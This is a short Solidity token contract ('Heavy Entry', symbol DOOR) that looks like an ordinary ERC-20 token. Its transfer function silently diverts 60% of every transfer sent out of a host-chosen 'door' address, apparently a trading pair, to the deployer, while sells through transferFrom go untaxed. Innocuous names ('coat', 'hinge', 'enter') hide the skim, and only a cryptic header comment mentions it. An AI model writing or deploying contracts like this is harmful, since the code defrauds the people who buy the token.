// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// Leaving costs nothing, entering costs sixty per cent.
contract HeavyEntry {
    string public name = "Heavy Entry";
    string public symbol = "DOOR";
    uint8 public decimals = 18;
    uint256 public totalSupply = 640_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address payable public immutable host;
    address public door;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        host = payable(msg.sender);
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function hinge(address door_) external {
        require(msg.sender == host && door == address(0));
        door = door_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        uint256 coat = msg.sender == door && to != host ? value * 6 / 10 : 0;
        if (coat > 0) enter(msg.sender, host, coat);
        enter(msg.sender, to, value - coat);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        enter(from, to, value);
        return true;
    }

    function enter(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
